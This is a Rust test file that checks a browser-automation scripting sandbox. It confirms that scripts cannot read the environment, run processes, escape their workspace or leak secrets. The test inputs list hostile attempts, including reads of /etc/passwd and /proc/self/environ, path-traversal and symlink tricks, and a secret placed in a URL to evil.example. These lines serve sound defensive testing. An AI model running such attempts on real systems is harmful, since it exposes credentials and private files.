//! What a script can reach, tried in every way that comes to mind: its workspace, its session's state, the secrets that its
//! caller lists, and nothing else.

mod support;

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

use serde_json::json;
use support::{FakeGateway, Sandbox, TOKEN};

/// A password that must never be seen.
const PASSWORD: &str = "hunter2-and-more";

fn with_token(gateway: &FakeGateway) -> Sandbox {
    gateway.wants_token(TOKEN);
    let mut sandbox = Sandbox::of(gateway);
    sandbox.set("APIFY_TOKEN", TOKEN);
    sandbox.set("CANARY", "canary-of-the-environment");
    sandbox
}

fn finish(gateway: &FakeGateway, sandbox: &Sandbox) {
    sandbox.stop();
    gateway.assert_nothing_owed();
}

#[test]
fn no_script_reaches_environment_process_network_or_files_of_others() {
    let gateway = FakeGateway::start();
    let sandbox = with_token(&gateway);
    fs::write(sandbox.root().join("outside.txt"), "the outside").unwrap();
    fs::write(sandbox.root().join("outside.rhai"), "fn out() { \"the outside\" }").unwrap();
    for (link, to) in [("up", ".."), ("link.txt", "../outside.txt"), ("process", "/proc/self"), ("slash", "/")] {
        symlink(to, sandbox.work().join(link)).unwrap();
    }
    nix::unistd::mkfifo(&sandbox.work().join("pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    sandbox.script(";").quietly();
    let daemon = sandbox.daemon().expect("a daemon").pid;
    let outside = sandbox.root().join("outside.txt").display().to_string();

    let tries = [
        // Environment and process.
        "env(\"APIFY_TOKEN\")",
        "getenv(\"HOME\")",
        "environment()",
        "env",
        "process.env",
        "system(\"id\")",
        "exec(\"id\")",
        "shell(\"id\")",
        "open(\"/etc/passwd\")",
        "command(\"id\")",
        "kill(1)",
        "spawn(\"id\")",
        "eval(\"1\")",
        "let e = Fn(\"eval\"); e.call(\"1\")",
        "Fn(\"env\").call()",
        "import \"std\" as std;",
        // Network of its own.
        "fetch(\"http://127.0.0.1/\")",
        "http_get(\"http://127.0.0.1/\")",
        "connect(\"127.0.0.1\", 80)",
        // Files.
        "read_text(\"/etc/passwd\")",
        "read_text(\"../outside.txt\")",
        "read_text(\"link.txt\")",
        "read_text(\"up/outside.txt\")",
        "read_text(\"./../outside.txt\")",
        "read_text(\"x/../../outside.txt\")",
        "read_text(\"/proc/self/environ\")",
        "read_text(\"process/environ\")",
        "read_text(\"slash/proc/self/environ\")",
        "read_text(\"slash/etc/passwd\")",
        "read_text(\"pipe\")",
        "read_text(\"\")",
        "read_text(\"a\\x00b\")",
        "read_text(\"~/.profile\")",
        "list_files(\"..\")",
        "list_files(\"/\")",
        "list_files(\"up\")",
        "list_files(\"process\")",
        "list_files(\"slash\")",
        "write_text(\"/tmp/ghost-planted\", \"x\")",
        "write_text(\"../planted\", \"x\")",
        "write_text(\"up/planted\", \"x\")",
        "write_text(\"link.txt\", \"x\")",
        "write_base64(\"../planted\", \"eA==\")",
        "write_text(\"pipe\", \"x\")",
        "write_base64(\"process/oom_score_adj\", \"MA==\")",
        // Code from elsewhere.
        "import \"../../outside\" as o; o::out()",
        "import \"/etc/passwd\" as o;",
        "import \"../outside\" as o; o::out()",
        // The token.
        "secret(\"APIFY_TOKEN\")",
        "secret(\"GHOST_BROWSER_SECRETS\")",
        "secret(\"CANARY\")",
        "secret(\"PATH\")",
        "secret(\"\")",
    ];
    let more = [
        format!("read_text(\"{outside}\")"),
        format!("read_text(\"/proc/{daemon}/environ\")"),
        format!("read_text(\"slash/proc/{daemon}/environ\")"),
        format!("read_text(\"{}\")", sandbox.state().display()),
        format!("list_files(\"{}\")", sandbox.state().display()),
    ];
    for source in tries.iter().map(|&source| source.to_owned()).chain(more) {
        // Each must fail; what it would have got is printed where it does not.
        let said = sandbox.script(&source);
        assert!(matches!(said.code, Some(1 | 2)), "{source}: {said:#?}");
        assert_eq!(said.stdout, "", "{source}");
        for kept in [TOKEN, "canary-of-the-environment", "the outside", "root:x:"] {
            assert!(!said.stderr.contains(kept), "{source}: {said:#?}");
        }
    }

    assert_eq!(fs::read_to_string(sandbox.root().join("outside.txt")).unwrap(), "the outside");
    assert!(!sandbox.root().join("planted").exists() && !std::path::Path::new("/tmp/ghost-planted").exists());
    assert_eq!((sandbox.status()["state"].as_str(), gateway.allocations()), (Some("connected"), 1));
    finish(&gateway, &sandbox);
}

#[test]
fn a_session_whose_workspace_is_the_whole_machine_still_has_no_way_to_the_kernels_files() {
    let gateway = FakeGateway::start();
    let sandbox = with_token(&gateway);
    sandbox.shell("cd / && ghost-browser run -e ';'").quietly();

    for path in ["/proc/self/environ", "proc/self/status", "/proc/1/environ"] {
        let said = sandbox.shell(&format!("cd / && ghost-browser run -e 'read_text(\"{path}\")'"));
        assert!(said.fails_with(1).contains("kernel") || said.stderr.contains("denied"), "{path}: {said:#?}");
    }
    assert_eq!(sandbox.shell("cd / && ghost-browser stop").quietly(), "released browser");
    gateway.assert_nothing_owed();
}

#[test]
fn files_of_the_workspace_are_read_written_and_listed() {
    let gateway = FakeGateway::start();
    let sandbox = Sandbox::of(&gateway);
    fs::create_dir(sandbox.work().join("sub")).unwrap();
    sandbox.file("old.txt", "long before");
    fs::set_permissions(sandbox.work().join("old.txt"), fs::Permissions::from_mode(0o600)).unwrap();
    let mode = |name: &str| fs::metadata(sandbox.work().join(name)).unwrap().permissions().mode() & 0o777;

    let source = r#"
        write_text("new.txt", "grüße");
        write_text("old.txt", "s");
        write_base64("sub/raw.bin", base64_encode("a\x00b"));
        [read_text("new.txt"), read_text("./old.txt"), list_files("sub"), list_files()]
    "#;
    let line = format!("umask 027; ghost-browser run -e '{source}'");
    let said = sandbox.shell(&line);

    assert_eq!(said.quietly(), r#"["grüße","s",["raw.bin"],["new.txt","old.txt","sub/"]]"#);
    assert_eq!((mode("new.txt"), mode("old.txt"), mode("sub/raw.bin")), (0o640, 0o600, 0o640));
    assert_eq!(fs::read(sandbox.work().join("sub/raw.bin")).unwrap(), b"a\0b");
    let absolute = sandbox.work().join("new.txt").display().to_string();
    assert_eq!(sandbox.script(format!("read_text(\"{absolute}\")")).quietly(), "grüße");
    assert!(sandbox.script("read_text(\"none.txt\")").fails_with(1).contains("none.txt"));
    assert!(sandbox.script("write_text(\"no/such/folder\", \"\")").fails_with(1).contains("hint: "));
    assert!(sandbox.script("write_base64(\"x\", \"*\")").fails_with(1).contains("base64"));
    sandbox.file("latin", b"\xe9");
    assert!(sandbox.script("read_text(\"latin\")").fails_with(1).contains("byte 0"));
    finish(&gateway, &sandbox);
}

#[test]
fn a_picture_is_not_written_to_what_would_hold_the_script_up() {
    let gateway = FakeGateway::start();
    let sandbox = Sandbox::of(&gateway);
    nix::unistd::mkfifo(&sandbox.work().join("pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let script = r#"for path in ["pipe", "/dev/null", "/dev/tty"] {
        try { capture_screenshot(path) } catch (e) { print(e.code) }
    }"#;

    assert_eq!(sandbox.script(script).value(), "denied\ndenied\ndenied");

    finish(&gateway, &sandbox);
}

#[test]
fn paths_start_where_the_caller_is_and_end_at_the_workspace() {
    let gateway = FakeGateway::start();
    let sandbox = Sandbox::of(&gateway);
    sandbox.ghost(["workspace"]).quietly();
    sandbox.file("deep/er/here.txt", "here");
    sandbox.file("top.txt", "top");
    let top = sandbox.work().join("top.txt").display().to_string();

    let said =
        sandbox.shell(&format!("cd deep/er && ghost-browser run -e 'read_text(\"here.txt\") + read_text(\"{top}\")'"));

    assert_eq!(said.quietly(), "heretop");
    let said = sandbox.shell("cd deep/er && ghost-browser run -e 'read_text(\"../../top.txt\")'");
    assert!(said.fails_with(1).contains("outside the workspace"), "{said:#?}");
    finish(&gateway, &sandbox);
}

#[test]
fn state_is_kept_between_calls_until_stop_and_bounded() {
    let gateway = FakeGateway::start();
    let sandbox = Sandbox::of(&gateway);

    sandbox
        .script("state_set(\"n\", #{a: [1, 2.5, \"x\", ()]}); state_set(\"gone\", 1); state_set(\"gone\", ());")
        .quietly();
    assert_eq!(
        sandbox.script("[state_get(\"n\"), state_get(\"none\"), state_keys()]").quietly(),
        r#"[{"a":[1,2.5,"x",null]},null,["n"]]"#
    );
    assert!(sandbox.script("state_set(\"f\", || 1)").fails_with(1).contains("cannot be JSON"));
    let filled = sandbox.script("let s = \"\"; s.pad(6000000, 'x'); for i in 0..9 { state_set(`k${i}`, s); }");
    assert!(filled.fails_with(1).contains("16 MiB"), "{filled:#?}");
    assert_eq!(sandbox.script("state_keys()").quietly(), r#"["k0","k1","n"]"#);
    sandbox.stop();

    assert_eq!(sandbox.script("state_keys()").quietly(), "[]");
    finish(&gateway, &sandbox);
}

fn with_secret(gateway: &FakeGateway, list: &str) -> Sandbox {
    let mut sandbox = with_token(gateway);
    sandbox.set("GHOST_BROWSER_SECRETS", list);
    sandbox.set("SHOP_PW", PASSWORD);
    sandbox
}

#[test]
fn a_secret_reaches_the_browser_and_nobody_who_looks() {
    let gateway = FakeGateway::start();
    let sandbox = with_secret(&gateway, "SHOP_PW");
    gateway.cdp().answers("Runtime.evaluate", json!({"result": {"type": "string", "value": PASSWORD}}));

    let said = sandbox.script(
        r#"
        let pw = secret("SHOP_PW");
        cdp("Input.insertText", #{text: "user:" + pw + "\"!"}, ensure_page());
        print(pw); debug([pw, "a" + pw]); print(`${pw}`); print(pw.to_string());
        print(cdp("Runtime.evaluate", #{expression: "field.value"}, ensure_page()).result.value);
        write_text("seen.txt", cdp("Runtime.evaluate", #{expression: "1"}, ensure_page()).result.value);
        print([type_of(pw), [pw] == [pw], [pw].to_json()]);
        pw
    "#,
    );

    let sent = gateway.cdp().wait_for("Input.insertText", 1).params;
    assert_eq!(sent["text"], format!("user:{PASSWORD}\"!"));
    let shown = "<secret SHOP_PW>";
    assert_eq!(
        said.value(),
        [shown, shown, shown, "[redacted]", "[\"secret\",false,\"[\\\"<secret SHOP_PW>\\\"]\"]", shown].join("\n")
    );
    assert_eq!(said.stderr, format!("[\"{shown}\",\"a{shown}\"]\n"));
    assert_eq!(fs::read_to_string(sandbox.work().join("seen.txt")).unwrap(), "[redacted]");
    assert_eq!(sandbox.script(format!("throw \"it is {PASSWORD}\"")).fails_with(1).matches("[redacted]").count(), 2);
    finish(&gateway, &sandbox);
}

#[test]
fn a_secret_is_not_for_anything_but_params() {
    let gateway = FakeGateway::start();
    let sandbox = with_secret(&gateway, "SHOP_PW");

    for use_of in [
        "js(\"'\" + pw + \"'\")",
        "json_stringify(pw)",
        "json_stringify(#{a: [pw]})",
        "state_set(\"pw\", pw)",
        "write_text(\"f\", pw)",
        "write_text(pw, \"f\")",
        "base64_encode(pw)",
        "read_text(pw)",
        "pw.len()",
        "pw[0]",
        "pw.sub_string(0, 1)",
        "pw == pw",
        "\"a\".index_of(pw)",
        "let s = \"a\"; s += pw;",
        "for c in pw { }",
        "cdp(pw)",
        "cdp(\"X.y\", pw)",
        "sleep(pw)",
        "wait_event(\"X.y\", #{session: pw})",
        "capture_screenshot(\"x.png\", #{clip: #{x: pw}})",
    ] {
        let said = sandbox.script(format!("let pw = secret(\"SHOP_PW\"); {use_of}"));
        assert_eq!((said.code, said.stdout.as_str()), (Some(1), ""), "{use_of}: {said:#?}");
        assert!(!said.stderr.contains(PASSWORD), "{use_of}: {said:#?}");
    }
    assert!(!sandbox.work().join("f").exists());
    finish(&gateway, &sandbox);
}

#[test]
fn a_secret_that_is_bound_to_an_origin_goes_to_its_pages_only() {
    let gateway = FakeGateway::start();
    let sandbox = with_secret(&gateway, "SHOP_PW@https://shop.example/login");
    let at = |origin: &str| {
        gateway.cdp().answers("Page.getFrameTree", json!({"frameTree": {"frame": {"securityOrigin": origin}}}))
    };
    let fill = r#"cdp("Input.insertText", #{text: secret("SHOP_PW")}, ensure_page())"#;

    for origin in [
        "https://evil.example",
        "http://shop.example",
        "https://shop.example:8443",
        "https://shop.example.evil",
        "://",
        "",
    ] {
        at(origin);
        let said = sandbox.script(fill);
        assert!(said.fails_with(1).contains("https://shop.example only"), "{origin}: {said:#?}");
    }
    for elsewhere in [
        r#"cdp("Target.createTarget", #{url: "https://evil.example/?" + secret("SHOP_PW")})"#,
        r#"cdp_all([["Input.insertText", #{text: secret("SHOP_PW")}]])"#,
    ] {
        assert!(sandbox.script(elsewhere).fails_with(1).contains("the browser itself"));
    }
    assert_eq!(gateway.cdp().count("Input.insertText"), 0);
    assert_eq!(gateway.cdp().count("Target.createTarget"), 0);

    at("https://shop.example");
    sandbox.script(format!("{fill};")).quietly();
    assert_eq!(gateway.cdp().wait_for("Input.insertText", 1).params["text"], PASSWORD);
    finish(&gateway, &sandbox);
}

#[test]
fn a_refused_secret_says_what_would_allow_it() {
    let gateway = FakeGateway::start();
    let mut sandbox = with_secret(&gateway, "OTHER,NOT_SET,SHORT,COPY,GHOST_X");
    sandbox.set("SHORT", "12345").set("COPY", format!("x{TOKEN}x")).set("GHOST_X", "something");

    for (name, part) in [
        ("SHOP_PW", "GHOST_BROWSER_SECRETS"),
        ("NOT_SET", "GHOST_BROWSER_SECRET_CMD"),
        ("SHORT", "under 6 bytes"),
        ("COPY", "holds the token"),
        ("GHOST_X", "scripts never get it"),
        ("APIFY_TOKEN", "scripts never get it"),
    ] {
        let error = sandbox.script(format!("secret(\"{name}\")")).fails_with(1).to_owned();
        assert!(error.contains(part) && !error.contains(TOKEN), "{name}: {error}");
        let code = sandbox.script(format!("try {{ secret(\"{name}\") }} catch (e) {{ print(e.code) }}"));
        assert_eq!(code.quietly(), "denied");
    }
    finish(&gateway, &sandbox);
}

#[test]
fn a_program_of_the_caller_gives_what_the_environment_has_not() {
    let gateway = FakeGateway::start();
    let mut sandbox = with_secret(&gateway, "VAULTED,BROKEN,SHOP_PW");
    let program = sandbox.file("vault", "#!/bin/sh\n[ $1 = BROKEN ] && exit 3\necho value-of-$1\n");
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    sandbox.set("GHOST_BROWSER_SECRET_CMD", &program);

    let fill = |name: &str| format!("cdp(\"Input.insertText\", #{{text: secret(\"{name}\")}}, ensure_page());");
    sandbox.script(format!("{}{}", fill("VAULTED"), fill("SHOP_PW"))).quietly();
    let texts: Vec<_> = gateway.cdp().commands().into_iter().filter(|c| c.method == "Input.insertText").collect();
    assert_eq!((&texts[0].params["text"], &texts[1].params["text"]), (&json!("value-of-VAULTED"), &json!(PASSWORD)));
    assert!(sandbox.script("secret(\"BROKEN\")").fails_with(1).contains("exit status: 3"));
    finish(&gateway, &sandbox);
}

#[test]
fn a_program_that_never_answers_is_ended_with_the_call_and_so_is_what_it_started() {
    let gateway = FakeGateway::start();
    let mut sandbox = with_secret(&gateway, "SLOW");
    let program = sandbox.file("vault", "#!/bin/sh\nsleep 600\necho never\n");
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    sandbox.set("GHOST_BROWSER_SECRET_CMD", &program);
    sandbox.script(";").quietly();

    let said = sandbox.script_with(["--timeout", "0.5"], "try { secret(\"SLOW\") } catch { } sleep(600)");
    assert!(said.fails_with(1).contains("--timeout"), "{said:#?}");

    let mut running = sandbox.spawn(["run", "-e", "print(\"asking\"); secret(\"SLOW\")"], "");
    running.line();
    running.signal(nix::sys::signal::Signal::SIGINT);
    assert_eq!(running.wait().code, Some(130));
    let sleeping = sandbox.processes().into_iter().filter(|process| process.command.contains("sleep")).count();
    assert_eq!((sleeping, sandbox.status()["scripts"].as_i64()), (0, Some(0)));
    finish(&gateway, &sandbox);
}

#[test]
fn a_file_that_cannot_be_had_comes_with_what_to_type_instead() {
    let gateway = FakeGateway::start();
    let sandbox = Sandbox::of(&gateway);

    for (source, parts) in [
        ("read_text(\".\")", ["it is a folder", "name a file in it"]),
        ("list_files(\"nope\")", ["No such file", "`list_files()` tells what is there"]),
        ("read_text(\"nope\")", ["No such file", "`list_files(folder)`"]),
        ("write_text(\".\", \"x\")", ["directory", "name a file in it"]),
    ] {
        let said = sandbox.script(source);
        assert!(parts.iter().all(|part| said.fails_with(1).contains(part)), "{source}: {said:#?}");
    }
    finish(&gateway, &sandbox);
}
